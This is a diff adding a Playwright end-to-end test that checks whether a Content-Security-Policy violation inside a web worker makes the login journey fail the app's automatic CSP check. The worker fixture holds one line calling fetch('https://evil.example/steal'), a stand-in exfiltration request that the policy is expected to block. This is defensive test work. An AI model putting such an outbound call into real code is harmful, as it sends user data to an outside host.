@@ -84,6 +84,32 @@ test.describe('provoked violations', () => {
   });
 });
 
+// Workers have their own policy (their script's headers) and their own violation events, which no page
+// listener sees: the e2e server's report-uri collects their reports, and the check reads them.
+test('[hardening] a violation inside a worker fails the journey too', async ({ page, context }) => {
+  test.fail(true, 'the automatic CSP check must fail this journey');
+  await page.goto('/login');
+  await waitForApp(page);
+  const csp = (await page.request.get('/login')).headers()['content-security-policy'] ?? '';
+  await context.route('**/probe-worker.js', (route) =>
+    route.fulfill({
+      contentType: 'text/javascript',
+      headers: { 'Content-Security-Policy': csp },
+      body: "fetch('https://evil.example/steal').catch(() => postMessage('refused'));",
+    }),
+  );
+  const answer = await page.evaluate(
+    () =>
+      new Promise<string>((resolve) => {
+        const policy = (window as unknown as { __FLECHAZO_BOOT__: { trust: { scriptURL(u: string): string } } }).__FLECHAZO_BOOT__;
+        const w = new Worker(policy.trust.scriptURL('/probe-worker.js'));
+        w.onmessage = (e) => resolve(String(e.data));
+      }),
+  );
+  expect(answer).toBe('refused');
+  await page.waitForTimeout(500);
+});
+
 // The check itself: a journey with a violation (and no allowCspViolations) fails, after its own steps.
 test('[hardening] a journey with a CSP violation fails', async ({ page }) => {
   test.fail(true, 'the automatic CSP check must fail this journey');
